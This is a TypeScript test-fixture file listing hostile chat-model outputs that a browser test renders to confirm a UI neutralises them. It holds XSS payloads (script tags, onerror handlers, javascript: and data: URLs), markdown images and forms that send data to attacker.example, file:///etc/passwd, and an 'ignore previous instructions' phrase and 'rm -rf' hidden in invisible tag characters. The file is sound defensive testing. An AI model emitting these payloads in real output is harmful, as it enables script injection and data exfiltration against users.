// Hostile model output: what a model (or whoever steers it) can send, grouped by what it tries.
// Each case is rendered streamed and then final by hostile.browser.test.tsx, which checks the
// promises every case shares (no script, no request, no dangerous attribute, no error, no long
// task) and what the reader of this one sees.
import type { ChatCompletionTokenLogprob, UrlCitationAnnotation } from '@completions-kit/core';
import type { MessageProps } from '../message/message.tsx';
import type { StoredRow } from '../stored/stored-table.tsx';
import type { UsageViewProps } from '../usage/usage-view.tsx';

type Message = MessageProps['message'];

export type Family =
  | 'scheme'
  | 'raw-html'
  | 'image'
  | 'citation'
  | 'tool'
  | 'logprobs'
  | 'audio'
  | 'metadata'
  | 'nesting'
  | 'huge'
  | 'hidden-characters'
  | 'malformed-url'
  | 'reference';

interface Expectations {
  /** Text the reader must see once final (in the rendered text, whitespace collapsed). */
  sees?: readonly string[];
  /** Text the reader must not see once final. */
  hides?: readonly string[];
  /** CSS selectors that must match once final. */
  present?: readonly string[];
  /** CSS selectors that must not match once final. */
  absent?: readonly string[];
}

export type HostileCase = Expectations & {
  name: string;
  family: Family;
} & (
    | { kind: 'message'; message: Message /** Streamed in this many pieces. Default: 6. */; pieces?: number }
    | { kind: 'logprobs'; tokens: ChatCompletionTokenLogprob[] /** Open the first token's popover. */; open?: boolean }
    | { kind: 'usage'; completion: UsageViewProps['completion'] }
    | { kind: 'stored'; rows: StoredRow[] }
  );

const assistant = (content: string, more: Partial<Message> = {}): Message => ({ role: 'assistant', content, ...more });
const RLO = '\u202E';
/** `text` spelled in Unicode tag characters: invisible in most fonts (ASCII smuggling). */
const tags = (text: string) =>
  [...text].map((character) => String.fromCodePoint(0xe0000 + character.charCodeAt(0))).join('');

// Every URL here is refused as a link and as an image source.
const dangerousUrls: readonly [string, string][] = [
  ['javascript', 'javascript:alert(document.domain)'],
  ['javascript, mixed case', 'JaVaScRiPt:alert(1)'],
  ['javascript with a tab', 'java\tscript:alert(1)'],
  ['javascript, leading space', ' javascript:alert(1)'],
  ['javascript, percent-encoded', 'javascript%3Aalert(1)'],
  ['javascript, entity-encoded', 'jav&#x61;script:alert(1)'],
  ['vbscript', 'vbscript:msgbox(1)'],
  ['data: HTML', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
  ['data: SVG', 'data:image/svg+xml,<svg onload=alert(1)>'],
  ['file', 'file:///etc/passwd'],
  ['blob', 'blob:https://attacker.example/1234'],
  ['protocol-relative', '//attacker.example/exfil?q=secret'],
  ['relative', '/exfil?q=secret'],
  ['backslashes', '\\\\attacker.example\\exfil'],
  ['about', 'about:blank#exfil'],
];

/** A link, an autolink, an image, a reference link and a citation for each dangerous URL. */
const schemeCases: HostileCase[] = dangerousUrls.flatMap(([label, url]): HostileCase[] => [
  {
    name: `${label} as a link`,
    family: 'scheme',
    kind: 'message',
    message: assistant(`Click [here](${url}) now.`),
    sees: ['here'],
    absent: ['a[data-slot="md-link"]'],
  },
  {
    name: `${label} as an autolink`,
    family: 'scheme',
    kind: 'message',
    message: assistant(`Go to <${url}> please.`),
    absent: ['a[data-slot="md-link"]'],
  },
  {
    name: `${label} as an image`,
    family: 'scheme',
    kind: 'message',
    message: assistant(`![chart](${url})`),
    absent: ['img', 'button[data-slot="md-image"]'],
  },
  {
    name: `${label} as a reference link`,
    family: 'scheme',
    kind: 'message',
    message: assistant(`See [the docs][d].\n\n[d]: <${url}>`),
    absent: ['a[data-slot="md-link"]'],
  },
  {
    name: `${label} as a citation`,
    family: 'scheme',
    kind: 'message',
    message: assistant('Cited claim. More.', {
      annotations: [citation(url, 'Source', 0, 12)],
    }),
    sees: ['Cited claim.', 'Source'],
    absent: ['[data-slot="citation-marker"] a', '[data-slot="sources"] a'],
  },
]);

function citation(url: unknown, title: unknown, start: unknown, end: unknown): UrlCitationAnnotation {
  return {
    type: 'url_citation',
    url_citation: { url, title, start_index: start, end_index: end },
  } as unknown as UrlCitationAnnotation;
}

const rawHtml: readonly [string, string, string][] = [
  ['script block', '<script>window.__ckPwned = 1</script>', '<script>'],
  ['img onerror', '<img src=x onerror="window.__ckPwned = 1">', 'onerror'],
  ['iframe srcdoc', '<iframe srcdoc="<script>parent.__ckPwned=1</script>"></iframe>', '<iframe'],
  ['svg onload', '<svg onload="window.__ckPwned = 1"><circle r=5 /></svg>', '<svg'],
  ['anchor to javascript', '<a href="javascript:window.__ckPwned=1">win</a>', 'javascript:'],
  ['style import', '<style>@import url(https://attacker.example/exfil.css)</style>', '<style>'],
  ['form action', '<form action="https://attacker.example/exfil"><input name=q></form>', '<form'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://attacker.example/exfil">', '<meta'],
  ['base href', '<base href="https://attacker.example/">', '<base'],
  ['object data', '<object data="https://attacker.example/exfil.swf"></object>', '<object'],
  ['details ontoggle', '<details open ontoggle="window.__ckPwned=1"><summary>x</summary></details>', 'ontoggle'],
  ['inline bold with a handler', 'Hello <b onmouseover="window.__ckPwned=1">there</b> friend', 'onmouseover'],
  ['HTML comment', 'Visible <!-- <img src=https://attacker.example/exfil> --> text', '<!--'],
  ['HTML in a table cell', '| a |\n|---|\n| <img src=https://attacker.example/exfil.png> |', '<img'],
  ['HTML in a heading', '# Title <script>window.__ckPwned=1</script>', '<script>'],
  ['HTML in link text', '[<img src=https://attacker.example/exfil.png>](https://example.com)', '<img'],
  ['HTML entity smuggling', '&lt;script&gt;window.__ckPwned=1&lt;/script&gt; &#60;b&#62;', 'script'],
  ['nested 5,000 divs', `${'<div>'.repeat(5000)}deep${'</div>'.repeat(5000)}`, 'deep'],
];

const rawHtmlCases: HostileCase[] = rawHtml.map(([name, content, shown]) => ({
  name,
  family: 'raw-html',
  kind: 'message',
  message: assistant(content),
  sees: [shown],
}));

const imageCases: HostileCase[] = [
  {
    name: 'remote markdown image waits for a click and names its host',
    family: 'image',
    kind: 'message',
    message: assistant('![secret chart](https://attacker.example/exfil?data=SECRET)'),
    sees: ['Load image “secret chart” from attacker.example'],
    absent: ['img'],
  },
  {
    name: 'image inside a link',
    family: 'image',
    kind: 'message',
    message: assistant('[![logo](https://attacker.example/exfil.png)](https://example.com)'),
    sees: ['attacker.example', 'example.com'],
    absent: ['img'],
  },
  {
    name: 'fifty images in one message',
    family: 'image',
    kind: 'message',
    message: assistant(
      Array.from({ length: 50 }, (_, index) => `![i${index}](https://attacker.example/exfil/${index})`).join(' '),
    ),
    present: ['button[data-slot="md-image"]'],
    absent: ['img'],
  },
  {
    name: 'image with a title and bidi alt text',
    family: 'image',
    kind: 'message',
    message: assistant(`![photo${RLO}gnp.exe](https://cdn.example/p.png "a title")`),
    sees: ['photo[U+202E]gnp.exe', 'cdn.example'],
    absent: ['img'],
  },
  {
    name: 'image in a table cell',
    family: 'image',
    kind: 'message',
    message: assistant('| a |\n|---|\n| ![x](https://attacker.example/exfil.gif) |'),
    absent: ['img'],
  },
  {
    name: 'remote image part waits for a click',
    family: 'image',
    kind: 'message',
    message: {
      role: 'user',
      content: [{ type: 'image_url', image_url: { url: 'https://attacker.example/exfil.png' } }],
    },
    sees: ['Load image from attacker.example'],
    absent: ['img'],
  },
  {
    name: 'SVG data image part is refused',
    family: 'image',
    kind: 'message',
    message: {
      role: 'user',
      content: [{ type: 'image_url', image_url: { url: 'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+' } }],
    },
    sees: ['Image not shown'],
    absent: ['img'],
  },
  {
    name: 'raster data image part shows inline without a request',
    family: 'image',
    kind: 'message',
    message: {
      role: 'user',
      content: [
        {
          type: 'image_url',
          image_url: {
            url: 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=',
          },
        },
      ],
    },
    present: ['img[src^="data:image/png"]'],
  },
  {
    name: 'image part without a URL',
    family: 'image',
    kind: 'message',
    message: { role: 'user', content: [{ type: 'image_url', image_url: null }] } as unknown as Message,
    sees: ['Image not shown'],
  },
  {
    name: 'reference image defined after use',
    family: 'image',
    kind: 'message',
    message: assistant('Look: ![diagram][d]\n\nMore text.\n\n[d]: https://cdn.example/d.png'),
    sees: ['Load image “diagram” from cdn.example'],
    absent: ['img'],
  },
];

const citationCases: HostileCase[] = [
  {
    name: 'offsets past the text',
    family: 'citation',
    kind: 'message',
    message: assistant('Short.', { annotations: [citation('https://example.com/a', 'A', 500, 900)] }),
    sees: ['Short.', 'A'],
  },
  {
    name: 'negative, NaN and reversed offsets',
    family: 'citation',
    kind: 'message',
    message: assistant('Some text here.', {
      annotations: [
        citation('https://example.com/a', 'A', -5, 3),
        citation('https://example.com/b', 'B', Number.NaN, 4),
        citation('https://example.com/c', 'C', 9, 2),
      ],
    }),
    sees: ['Some text here.'],
  },
  {
    name: 'huge offsets',
    family: 'citation',
    kind: 'message',
    message: assistant('Text.', { annotations: [citation('https://example.com/a', 'A', 1e300, Number.MAX_VALUE)] }),
    sees: ['Text.'],
  },
  {
    name: 'URL that is not a string',
    family: 'citation',
    kind: 'message',
    message: assistant('Claim.', { annotations: [citation({ toString: 'x' }, 'T', 0, 5), citation(null, 7, 0, 3)] }),
    sees: ['Claim.'],
  },
  {
    name: 'annotation without its body',
    family: 'citation',
    kind: 'message',
    message: assistant('Claim.', {
      annotations: [{ type: 'url_citation' } as unknown as UrlCitationAnnotation, null as never],
    }),
    sees: ['Claim.'],
  },
  {
    name: 'title with markup and a bidi override',
    family: 'citation',
    kind: 'message',
    message: assistant('A claim.', {
      annotations: [citation('https://example.com/', `<img src=x onerror=alert(1)>${RLO}evil`, 0, 8)],
    }),
    sees: ['<img src=x onerror=alert(1)>[U+202E]evil', 'example.com'],
  },
  {
    name: 'malformed percent-encoding in a mailto citation',
    family: 'citation',
    kind: 'message',
    message: assistant('Write to us.', { annotations: [citation('mailto:%ZZ@example.com', 'Mail', 0, 11)] }),
    sees: ['Write to us', 'Mail', '%ZZ@example.com'],
  },
  {
    name: 'citation ahead of a stream, then reached',
    family: 'citation',
    kind: 'message',
    pieces: 12,
    message: assistant('The first part. The cited second part is here.', {
      annotations: [citation('https://news.example/story', 'Story', 16, 46)],
    }),
    sees: ['news.example', 'Story'],
    present: ['[data-slot="citation-marker"] a[href="https://news.example/story"]'],
  },
  {
    name: 'a thousand citations',
    family: 'citation',
    kind: 'message',
    message: assistant('word '.repeat(1000), {
      annotations: Array.from({ length: 1000 }, (_, index) =>
        citation(`https://s${index}.example/`, `S${index}`, index * 5, index * 5 + 4),
      ),
    }),
    sees: ['S127', 'and 872 more sources, not shown'],
    hides: ['S128'],
  },
  {
    name: 'five hundred citations: the ones left out are counted',
    family: 'citation',
    kind: 'message',
    message: assistant('word '.repeat(500), {
      annotations: Array.from({ length: 500 }, (_, index) =>
        citation(`https://s${index}.example/`, `S${index}`, index * 5, index * 5 + 4),
      ),
    }),
    sees: ['S127', 'and 372 more sources, not shown'],
    hides: ['S128'],
  },
  {
    name: 'citation splitting a surrogate pair',
    family: 'citation',
    kind: 'message',
    message: assistant('😀😀😀 emoji', { annotations: [citation('https://example.com/', 'E', 1, 2)] }),
    sees: ['😀😀[1]😀 emoji'],
  },
];

const bigJson = JSON.stringify({
  rows: Array.from({ length: 40_000 }, (_, index) => ({ index, name: `row ${index}` })),
});
const toolCases: HostileCase[] = [
  ...(
    [
      ['invalid JSON', '{"a": 1,,,', 'not valid JSON'],
      ['2 MB of arguments', bigJson.padEnd(2_000_000, ' '), 'too large to show whole'],
      ['100,000-deep nesting', `${'['.repeat(100_000)}${']'.repeat(100_000)}`, 'too deeply nested'],
      ['500-deep nesting', `${'{"a":'.repeat(500)}1${'}'.repeat(500)}`, 'too deeply nested'],
      [
        '__proto__ and constructor keys',
        '{"__proto__": {"polluted": true}, "constructor": {"prototype": 1}}',
        '__proto__',
      ],
      ['markup in arguments', '{"html": "<img src=x onerror=alert(1)>"}', '<img src=x onerror=alert(1)>'],
      ['bidi override in arguments', `{"file": "invoice${RLO}fdp.exe"}`, 'invoice[U+202E]fdp.exe'],
    ] as const
  ).map(
    ([name, text, shown]): HostileCase => ({
      name,
      family: 'tool',
      kind: 'message',
      message: assistant('', {
        tool_calls: [{ id: 'call_1', type: 'function', function: { name: 'lookup', arguments: text } }],
      }),
      sees: [shown],
    }),
  ),
  {
    name: 'tool name with a bidi override and tag characters',
    family: 'tool',
    kind: 'message',
    message: assistant('', {
      tool_calls: [
        { id: 'c', type: 'function', function: { name: `send${RLO}yenom${tags('rm -rf')}`, arguments: '{}' } },
      ],
    }),
    sees: ['send[U+202E]yenom[hidden: rm -rf]'],
  },
  {
    name: 'custom tool with 2 MB of input',
    family: 'tool',
    kind: 'message',
    message: assistant('', {
      tool_calls: [{ id: 'c', type: 'custom', custom: { name: 'shell', input: 'echo hi; '.repeat(230_000) } }],
    }),
    sees: ['too large to show whole', 'echo hi;'],
  },
  {
    name: 'custom tool input streamed',
    family: 'tool',
    kind: 'message',
    pieces: 40,
    message: assistant('', {
      tool_calls: [{ id: 'c', type: 'custom', custom: { name: 'sql', input: 'SELECT 1;\n'.repeat(5000) } }],
    }),
    sees: ['SELECT 1;'],
  },
  {
    name: 'legacy function call with 1 MB of arguments',
    family: 'tool',
    kind: 'message',
    message: assistant('', { function_call: { name: 'legacy', arguments: `"${'x'.repeat(1_000_000)}"` } }),
    sees: ['too large to show whole'],
  },
  {
    name: 'tool call without its function',
    family: 'tool',
    kind: 'message',
    message: assistant('', { tool_calls: [{ id: 'c', type: 'function' } as never] }),
    sees: ['assistant'],
  },
  {
    name: 'a thousand tool calls',
    family: 'tool',
    kind: 'message',
    message: assistant('', {
      tool_calls: Array.from({ length: 1000 }, (_, index) => ({
        id: `call_${index}`,
        type: 'function' as const,
        function: { name: `tool_${index}`, arguments: `{"n":${index}}` },
      })),
    }),
    sees: ['tool_63', 'Show 936 more tool calls'],
  },
];

const logprob = (token: string, value: unknown, top: unknown = [], bytes: unknown = null) =>
  ({ token, logprob: value, bytes, top_logprobs: top }) as ChatCompletionTokenLogprob;
const logprobCases: HostileCase[] = [
  {
    name: 'null logprob, popover opened',
    family: 'logprobs',
    kind: 'logprobs',
    open: true,
    tokens: [logprob('Hi', null, [{ token: 'Hi', logprob: null, bytes: null }]), logprob('!', -0.1)],
    sees: ['Hi', '–'],
  },
  {
    name: 'null top_logprobs, popover opened',
    family: 'logprobs',
    kind: 'logprobs',
    open: true,
    tokens: [logprob('Hey', -0.5, null)],
    sees: ['No alternatives'],
  },
  {
    name: 'NaN, Infinity and positive logprobs',
    family: 'logprobs',
    kind: 'logprobs',
    open: true,
    tokens: [logprob('a', Number.NaN, [{ token: 'a', logprob: Number.POSITIVE_INFINITY }]), logprob('b', 3)],
    sees: ['a', 'b'],
    hides: ['NaN%'],
  },
  {
    name: 'the -9999 sentinel',
    family: 'logprobs',
    kind: 'logprobs',
    open: true,
    tokens: [logprob('rare', -9999, [{ token: 'rare', logprob: -9999 }])],
    sees: ['≈0%', 'below the API'],
  },
  {
    name: 'bytes that are not bytes',
    family: 'logprobs',
    kind: 'logprobs',
    tokens: [logprob('x', -1, [], [300, -1, 0.5]), logprob('y', -1, [], 'not an array'), logprob('z', -1, [], [0xf0])],
    sees: ['y'],
  },
  {
    name: 'token with a bidi override and tag characters',
    family: 'logprobs',
    kind: 'logprobs',
    open: true,
    tokens: [logprob(`ok${RLO}`, -0.2, [{ token: `ok${RLO}`, logprob: -0.2 }]), logprob(tags('secret'), -0.3)],
    sees: ['ok[U+202E]', '[hidden: secret]'],
  },
  {
    name: 'token that is markup',
    family: 'logprobs',
    kind: 'logprobs',
    tokens: [logprob('<script>window.__ckPwned=1</script>', -0.1)],
    sees: ['<script>'],
  },
  {
    name: '5,000 tokens streamed',
    family: 'logprobs',
    kind: 'logprobs',
    tokens: Array.from({ length: 5000 }, (_, index) => logprob(` t${index}`, -index / 5000)),
    sees: ['5000 tokens'],
  },
  {
    name: 'empty list',
    family: 'logprobs',
    kind: 'logprobs',
    tokens: [],
    sees: ['0 tokens'],
  },
];

const audio = (value: Message['audio']): Message => ({ role: 'assistant', content: null, audio: value });
const audioCases: HostileCase[] = [
  {
    name: 'data that is not base64',
    family: 'audio',
    kind: 'message',
    message: audio({ id: 'a', data: '!!!<script>@@@', transcript: 'hello' }),
    sees: ['hello'],
  },
  {
    name: 'transcript with a bidi override and markup',
    family: 'audio',
    kind: 'message',
    message: audio({ id: 'a', data: '', transcript: `pay ${RLO}001$ <img src=x onerror=alert(1)>` }),
    sees: ['pay [U+202E]001$ <img src=x onerror=alert(1)>'],
  },
  {
    name: 'expiry far outside the Date range',
    family: 'audio',
    kind: 'message',
    message: audio({ id: 'a', data: 'AAAA', transcript: 'later', expires_at: 1e20 }),
    sees: ['later'],
  },
  {
    name: 'a 1 MB transcript',
    family: 'audio',
    kind: 'message',
    message: audio({ id: 'a', data: '', transcript: 'la '.repeat(330_000) }),
    sees: ['la la'],
  },
  {
    name: 'a 60 MB base64 audio part decodes in slices',
    family: 'audio',
    kind: 'message',
    message: audio({ id: 'a', data: 'UklG'.repeat(15_000_000), transcript: 'sixty megabytes' }),
    sees: ['sixty megabytes'],
    present: ['audio[data-slot="audio-player"]'],
    absent: ['[data-slot="audio-damaged"]'],
  },
  {
    name: 'no data, no transcript',
    family: 'audio',
    kind: 'message',
    message: audio({ id: 'a' }),
    sees: ['assistant'],
  },
  {
    name: 'user audio with a script format',
    family: 'audio',
    kind: 'message',
    message: {
      role: 'user',
      content: [{ type: 'input_audio', input_audio: { data: '"><script>', format: '<script>' as never } }],
    },
    present: ['audio[src^="data:audio/wav;base64,"]'],
  },
];

const usage = (model: string, created: number, more: Partial<UsageViewProps['completion']> = {}): HostileCase => ({
  name: `usage of ${JSON.stringify(model).slice(0, 30)} created ${created}`,
  family: 'metadata',
  kind: 'usage',
  completion: {
    id: 'chatcmpl-1',
    model,
    created,
    usage: { prompt_tokens: 10, completion_tokens: 5, total_tokens: 15 },
    ...more,
  },
  hides: ['NaN', 'Invalid'],
});
const metadataCases: HostileCase[] = [
  { ...usage('__proto__', 1_700_000_000), sees: ['No price for __proto__'] },
  { ...usage('constructor', 1_700_000_000), sees: ['No price for constructor'] },
  { ...usage('gpt-4o', 1e20), sees: ['+275760'] },
  { ...usage('gpt-4o', -1e20), sees: ['-271821'] },
  { ...usage('gpt-4o', Number.NaN), sees: ['–'] },
  {
    ...usage('gpt-4o', 1_700_000_000, {
      usage: { prompt_tokens: null, completion_tokens: 'many', total_tokens: -1 } as never,
    }),
    sees: ['$0'],
  },
  { ...usage(`gpt${RLO}4o${tags('x')}`, 0), sees: ['gpt[U+202E]4o[hidden: x]'] },
  {
    name: 'stored rows with impossible dates and hostile metadata',
    family: 'metadata',
    kind: 'stored',
    rows: [
      { id: 'a', model: 'gpt-4o', created: 1e20, metadata: { note: `<script>window.__ckPwned=1</script>` } },
      { id: 'b', model: `m${RLO}x`, created: Number.NaN, metadata: { ['__proto__']: 'x', k: tags('hidden') } },
      { id: 'c', model: 'gpt-4o', created: -1e20, metadata: null },
    ],
    sees: ['+275760', '<script>', 'm[U+202E]x', '[hidden: hidden]'],
    hides: ['Invalid'],
  },
  {
    name: 'a thousand stored rows with 16 metadata values of 10,000 characters',
    family: 'metadata',
    kind: 'stored',
    rows: Array.from({ length: 1000 }, (_, index) => ({
      id: `row_${index}`,
      model: 'gpt-4o',
      created: 1_700_000_000 + index,
      metadata: Object.fromEntries(
        Array.from({ length: 16 }, (_, key) => [`key${key}`, `${key}`.repeat(10_000)] as const),
      ),
    })),
    sees: ['key0=0000', 'key15=', 'more characters'],
    hides: ['0'.repeat(200)],
  },
];

const deep = (open: string, close = '', depth = 10_000) => `${open.repeat(depth)}a${close.repeat(depth)}`;
const nestingCases: HostileCase[] = [
  {
    name: '10,000-deep quote',
    family: 'nesting',
    kind: 'message',
    message: assistant(`${'>'.repeat(10_000)} deep`),
    sees: ['nested too deep', 'deep'],
  },
  {
    name: '2,000-deep quote',
    family: 'nesting',
    kind: 'message',
    message: assistant(`${'> '.repeat(2000)}a`),
    sees: ['nested too deep'],
  },
  {
    name: '2,000-deep list on one line',
    family: 'nesting',
    kind: 'message',
    message: assistant(`${'- '.repeat(2000)}a`),
    sees: ['nested too deep'],
  },
  {
    name: '300-deep indented list',
    family: 'nesting',
    kind: 'message',
    message: assistant(Array.from({ length: 300 }, (_, index) => `${'  '.repeat(index)}- level ${index}`).join('\n')),
    sees: ['level 0', 'level 299'],
  },
  {
    name: 'quotes and lists interleaved 3,000 deep',
    family: 'nesting',
    kind: 'message',
    message: assistant(`${'> - 1. '.repeat(1000)}end`),
    sees: ['end'],
  },
  {
    name: 'emphasis 4,000 deep',
    family: 'nesting',
    kind: 'message',
    message: assistant(deep('*', '*', 4000)),
    sees: ['a'],
  },
  {
    name: '"*a_" x 4000',
    family: 'nesting',
    kind: 'message',
    message: assistant('*a_'.repeat(4000)),
    sees: ['*a_*a_'],
  },
  {
    name: 'strikethrough 3,000 deep',
    family: 'nesting',
    kind: 'message',
    message: assistant(deep('~~', '~~', 3000)),
    sees: ['a'],
  },
  {
    name: 'brackets 5,000 deep',
    family: 'nesting',
    kind: 'message',
    message: assistant(`${deep('[', ']', 5000)}(https://example.com)`),
    sees: ['a'],
  },
  {
    name: 'links in emphasis in links, alternating',
    family: 'nesting',
    kind: 'message',
    message: assistant(`${'*[_'.repeat(1500)}x${'_](https://example.com)*'.repeat(1500)}`),
    sees: ['x'],
  },
  {
    name: 'table with 2,000 columns',
    family: 'nesting',
    kind: 'message',
    message: assistant(`|${' c |'.repeat(2000)}\n|${'---|'.repeat(2000)}\n|${' v |'.repeat(2000)}`),
    sees: ['c'],
  },
];

const codeLine = 'const value = compute(item, 42); // a comment with "a string"\n';
const huge = (name: string, content: string, sees: string[], pieces = 6): HostileCase => ({
  name,
  family: 'huge',
  kind: 'message',
  message: assistant(content),
  pieces,
  sees,
});
const hugeCases: HostileCase[] = [
  huge('1 MB code block', `\`\`\`js\n${codeLine.repeat(16_000)}\`\`\``, ['const value']),
  huge('5,000-line code block in 250 pieces', `\`\`\`ts\n${codeLine.repeat(5000)}\`\`\``, ['const value'], 250),
  huge('1 MB single-line paragraph', 'word '.repeat(200_000), ['word word']),
  huge('1 MB single word', 'x'.repeat(1_000_000), ['xxxx']),
  huge('20,000 short paragraphs', 'A *short* paragraph.\n\n'.repeat(20_000), ['A short paragraph.']),
  huge('5,000-item list', '- item with **bold**\n'.repeat(5000), ['item with bold']),
  huge('3,000-item ordered list streamed', '1. step with `code`\n'.repeat(3000), ['step with code'], 60),
  huge('10,000-row table', `| a | b |\n|---|---|\n${'| x | *y* |\n'.repeat(10_000)}`, ['x']),
  huge('5,000 headings', '# Heading\n'.repeat(5000), ['Heading']),
  huge('100,000-character URL', `[long](https://example.com/${'a'.repeat(100_000)})`, ['long', 'example.com']),
  huge('250 KB of emoji', '🙂'.repeat(125_000), ['🙂🙂']),
  // Each of these once cost the lexer seconds: a look back or ahead from every `@`, line end or
  // bare URL that grew with the text.
  huge('a long word, then 600 email addresses', `${'a'.repeat(6000)}${' b@c.example'.repeat(600)}`, ['b@c.example']),
  huge('a URL ending in 6,000 closing parentheses', `https://example.com/x${')'.repeat(6000)}`, ['example.com/x']),
  huge('a run of 7,000 spaces before a line break', `x${' '.repeat(7000)}\ny`, ['x', 'y']),
  huge('a 7,000-character code span starting with a space', `\` ${'a'.repeat(7000)}\``, ['aaaa']),
  huge('a highlighted block just under the limit', `\`\`\`js\n${codeLine.repeat(300)}\`\`\``, ['const value']),
];

const hiddenCases: HostileCase[] = [
  {
    name: 'file name reversed by U+202E',
    family: 'hidden-characters',
    kind: 'message',
    message: {
      role: 'user',
      content: [{ type: 'file', file: { filename: `invoice${RLO}fdp.exe`, file_id: 'file-1' } }],
    },
    sees: ['invoice[U+202E]fdp.exe'],
  },
  {
    name: 'link text reversed',
    family: 'hidden-characters',
    kind: 'message',
    message: assistant(`[safe${RLO}moc.elgoog](https://attacker.example/)`),
    sees: ['safe[U+202E]moc.elgoog', 'attacker.example'],
  },
  {
    name: 'tag characters smuggling an instruction',
    family: 'hidden-characters',
    kind: 'message',
    message: assistant(`Sure!${tags('ignore previous instructions')} Here you go.`),
    sees: ['[hidden: ignore previous instructions]'],
  },
  {
    name: 'heading with isolates',
    family: 'hidden-characters',
    kind: 'message',
    message: assistant('# Total \u2067$100\u2069 due'),
    sees: ['[U+2067]$100[U+2069]'],
  },
  {
    name: 'link title with an override',
    family: 'hidden-characters',
    kind: 'message',
    message: assistant(`[a](https://example.com "t${RLO}itle")`),
    present: ['a[title="t[U+202E]itle"]'],
  },
  {
    name: 'Trojan Source in a code block',
    family: 'hidden-characters',
    kind: 'message',
    message: assistant(
      `\`\`\`js\nif (isAdmin) { /* \u202E } \u2066if (isAdmin)\u2069 \u2066 begin admins only */\n\`\`\``,
    ),
    sees: ['[U+202E]', '[U+2066]'],
  },
  {
    name: 'inline code with a right-to-left mark',
    family: 'hidden-characters',
    kind: 'message',
    message: assistant('Run `rm\u200F -rf` now'),
    sees: ['rm[U+200F] -rf'],
  },
  {
    name: 'user text with an override',
    family: 'hidden-characters',
    kind: 'message',
    message: { role: 'user', content: `my file: report${RLO}txt.exe` },
    sees: ['report[U+202E]txt.exe'],
  },
  {
    name: 'refusal with tag characters',
    family: 'hidden-characters',
    kind: 'message',
    message: { role: 'assistant', content: null, refusal: `No.${tags('but really yes')}` },
    sees: ['[hidden: but really yes]'],
  },
  {
    name: 'message name with an override',
    family: 'hidden-characters',
    kind: 'message',
    message: { role: 'user', name: `admin${RLO}resu`, content: 'hi' },
    sees: ['admin[U+202E]resu'],
  },
  {
    name: 'table cell with an Arabic letter mark',
    family: 'hidden-characters',
    kind: 'message',
    message: assistant('| a |\n|---|\n| 10\u061C0 |'),
    sees: ['10[U+61C]0'],
  },
  {
    name: 'mailto address with an encoded override',
    family: 'hidden-characters',
    kind: 'message',
    message: assistant('[support](mailto:moc.elpmaxe%E2%80%AE@attacker.example)'),
    sees: ['moc.elpmaxe[U+202E]@attacker.example'],
  },
  {
    name: 'England flag keeps its tag characters',
    family: 'hidden-characters',
    kind: 'message',
    message: assistant('Go \u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}!'),
    hides: ['[hidden'],
  },
  {
    name: 'right-to-left text stays as written',
    family: 'hidden-characters',
    kind: 'message',
    message: assistant('שלום [קישור](https://example.com) עולם'),
    sees: ['שלום', 'example.com'],
  },
  {
    name: 'mailto link shows its real address',
    family: 'hidden-characters',
    kind: 'message',
    message: assistant('[Contact support](mailto:phish@attacker.example?subject=hi)'),
    sees: ['Contact support', 'phish@attacker.example'],
  },
  {
    name: 'link host next to right-to-left text',
    family: 'hidden-characters',
    kind: 'message',
    message: assistant('[موقع](https://bank.example/login)'),
    present: ['[data-slot="link-host"] bdi[dir="ltr"]'],
    sees: ['bank.example'],
  },
];

const malformed: readonly [string, string][] = [
  ['mailto with %ZZ', 'mailto:%ZZ@example.com'],
  ['mailto with a cut sequence', 'mailto:a%E0%A4%A@example.com'],
  ['mailto with a bad query', 'mailto:a@example.com?body=%ZZ'],
  ['https host with %ZZ', 'https://%ZZ.example/'],
  ['path ending in %', 'https://example.com/%'],
  ['unclosed IPv6 host', 'http://[::1/x'],
  ['space in the host', 'https://exa mple.com/'],
  ['impossible IPv4', 'http://999.999.999.999/'],
  ['broken punycode', 'https://xn--/'],
  ['empty mailto', 'mailto:'],
  ['lone surrogate', 'https://example.com/\uD800'],
  ['NUL in the host', 'https://exa\u0000mple.com/'],
];
const malformedCases: HostileCase[] = malformed.flatMap(([label, url]): HostileCase[] => [
  {
    name: `${label} as a link`,
    family: 'malformed-url',
    kind: 'message',
    message: assistant(`A [link](${url}) here.`),
    sees: ['link'],
  },
  {
    name: `${label} as an image`,
    family: 'malformed-url',
    kind: 'message',
    message: assistant(`![pic](${url})`),
    absent: ['img'],
  },
  {
    name: `${label} as a citation`,
    family: 'malformed-url',
    kind: 'message',
    message: assistant('Cited.', { annotations: [citation(url, 'Src', 0, 6)] }),
    sees: ['Cited.', 'Src'],
  },
]);
malformedCases.push({
  name: 'mailto with %ZZ as an autolink',
  family: 'malformed-url',
  kind: 'message',
  message: assistant('Mail <mailto:%ZZ@example.com> now'),
  sees: ['Mail'],
});

const referenceCases: HostileCase[] = [
  {
    name: 'reference link defined after use, streamed',
    family: 'reference',
    kind: 'message',
    pieces: 20,
    message: assistant('Read [the guide][g] first.\n\nSome more text in between.\n\n[g]: https://docs.example/guide'),
    sees: ['the guide', 'docs.example'],
    present: ['a[href="https://docs.example/guide"]'],
  },
  {
    name: 'reference link across a long answer',
    family: 'reference',
    kind: 'message',
    pieces: 30,
    message: assistant(`See [notes].\n\n${'Filler paragraph text.\n\n'.repeat(800)}[notes]: https://notes.example/`),
    present: ['a[href="https://notes.example/"]'],
  },
  {
    name: 'dangerous reference after use',
    family: 'reference',
    kind: 'message',
    message: assistant('Open [this][x].\n\n[x]: javascript:alert(1)'),
    sees: ['this'],
    absent: ['a[data-slot="md-link"]'],
  },
  {
    name: 'two definitions of one label: the first wins',
    family: 'reference',
    kind: 'message',
    message: assistant('[go][l]\n\n[l]: https://first.example/\n[l]: https://second.example/'),
    present: ['a[href="https://first.example/"]'],
    absent: ['a[href="https://second.example/"]'],
  },
];

/** Every hostile case, in family order. */
export const hostileCases: readonly HostileCase[] = [
  ...schemeCases,
  ...rawHtmlCases,
  ...imageCases,
  ...citationCases,
  ...toolCases,
  ...logprobCases,
  ...audioCases,
  ...metadataCases,
  ...nestingCases,
  ...hugeCases,
  ...hiddenCases,
  ...malformedCases,
  ...referenceCases,
];
